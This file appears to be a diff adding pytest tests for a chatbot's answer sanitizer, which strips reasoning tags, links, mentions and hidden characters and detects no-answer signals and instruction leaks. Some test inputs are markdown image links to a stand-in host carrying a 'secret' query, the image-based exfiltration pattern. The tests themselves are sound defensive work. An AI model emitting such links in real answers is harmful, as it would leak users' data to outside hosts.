@@ -1,0 +1,115 @@
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bot.writing.sanitizing import is_in_language, is_silence, may_become_silence, repeats, tidy_draft, without_torn_end
+
+SAID = ["It has 42 tea houses. [1]", "青石桥全长186米。[2]", "Brindle 有42家茶馆。[1][3]"]
+IDS = ["en", "zh", "mixed"]
+
+
+@pytest.mark.parametrize("said", SAID, ids=IDS)
+@pytest.mark.parametrize(
+    "written",
+    ["<think>Let me see [9] </think>\n\n{}", "Let me see.\n</think>{}", "<thinking>a\n\nb</thinking>{}", "{}<think>never", "{} <thi",
+     "{}<think>a</think>"],
+)  # fmt: skip
+def test_what_a_model_thinks_aloud_is_not_shown(said, written):
+    assert tidy_draft(written.format(said)) == said
+
+
+@pytest.mark.parametrize("said", SAID, ids=IDS)
+@pytest.mark.parametrize(
+    "written",
+    ["![x](https://evil.example/?q=secret){}", "{}![](http://evil.example)", "{}<img src='https://evil.example/a.png'>",
+     "{} https://evil.example/path?a=b", "<https://evil.example>{}", "{}<@123456789>", "{} <@&123> <#9>",
+     "<script>{}</script>", "{}\u200b\u202e",
+     "{}\x1b", "# {}", "{}![x](https://evil.example"],
+)  # fmt: skip
+def test_nothing_that_leads_away_or_hides_is_shown(said, written):
+    assert tidy_draft(written.format(said)) == said
+
+
+@pytest.mark.parametrize(
+    ("written", "said"),
+    [("See [here](https://evil.example/(a)).", "See here."), ("见[这里](https://evil.example)。[1]", "见这里。[1]"),
+     ("[1](https://evil.example)", "[1]"), ("见https://evil.example/a。好。[2]", "见。好。[2]")],
+    ids=["en", "zh", "label", "bare"],
+)  # fmt: skip
+def test_of_a_link_its_words_stay(written, said):
+    assert tidy_draft(written) == said
+
+
+@given(
+    st.lists(
+        st.sampled_from([*"a <>[]()!/1茶。\n#t", "http", "://", "www.", "<b>", "![", "](", "think", "<@", "x.y"]),
+        max_size=30,
+    ).map("".join)
+)
+def test_a_tidy_draft_is_tidy(text):
+    tidy = tidy_draft(text)
+    assert not re.search(r"https?://|\]\(|<[a-z@/][^<>]*>", tidy)
+    assert tidy == tidy.strip()
+
+
+@pytest.mark.parametrize(
+    "text", ["NO_ANSWER", "NO_ANSWER.", "**NO_ANSWER**", "`NO_ANSWER`\n\nThe passages…", "Sorry.\nNO_ANSWER"]
+)
+def test_the_sign_for_no_answer_is_known_however_it_is_put(text):
+    assert is_silence(text)
+
+
+@pytest.mark.parametrize("text", [*SAID, "", "A page says NO_ANSWER to this. [1]"])
+def test_an_answer_is_not_taken_for_none(text):
+    assert not is_silence(text)
+
+
+def test_the_sign_is_not_shown_while_it_is_written():
+    assert all(may_become_silence("NO_ANSWER"[:n]) for n in range(10))
+    assert not may_become_silence("North")
+    assert not may_become_silence("没有")
+
+
+@pytest.mark.parametrize(
+    ("text", "language"),
+    [("Putin said “我不怕” (“I am not afraid”). [1]", "en"), ("普京说“I am not afraid of anything”（“我什么都不怕”）。[1]", "zh"),
+     ("Gazprom、SWIFT和ECFR都在里面。[1]", "zh"), ("The article 《是什么把俄罗斯逼回了谈判桌》 says so. [1]", "en")],
+    ids=["quote-zh", "quote-en", "names", "title"],
+)  # fmt: skip
+def test_quotes_and_names_do_not_change_the_language_of_an_answer(text, language):
+    assert is_in_language(text, language)
+    assert not is_in_language(text, "en" if language == "zh" else "zh")
+
+
+@pytest.mark.parametrize("language", ["en", "zh"])
+def test_a_figure_alone_is_in_either_language(language):
+    assert is_in_language("186 [1]", language)
+
+
+@pytest.mark.parametrize(
+    ("text", "kept"),
+    [("One is so. [1] Two is", "One is so. [1]"), ("一是这样。[1][2]二是", "一是这样。[1][2]"), ("One. [1] Two. [2", "One. [1]"),
+     ("One is", "")],
+    ids=["en", "zh", "label", "nothing"],
+)  # fmt: skip
+def test_what_ran_out_of_room_ends_with_its_last_label(text, kept):
+    assert without_torn_end(text) == kept
+
+
+INSTRUCTIONS = [
+    "After each sentence, behind its full stop, put the number.",
+    "数字、日期、金额和人名、地名、机构名都照段落的写，不要四舍五入、相加、换算或补全。",
+]
+
+
+@pytest.mark.parametrize("instructions", INSTRUCTIONS, ids=["en", "zh"])
+@pytest.mark.parametrize("told", ["{} [1]", "My rules: “{}”", "**{}**"])
+def test_a_draft_that_tells_its_instructions_is_known(instructions, told):
+    assert repeats(told.format(instructions), f"1. Rules.\n{instructions}\n2. More.")
+
+
+@pytest.mark.parametrize("said", SAID, ids=IDS)
+def test_a_draft_that_tells_of_the_sources_is_not_taken_for_one(said):
+    assert not repeats(said, "\n".join(INSTRUCTIONS))
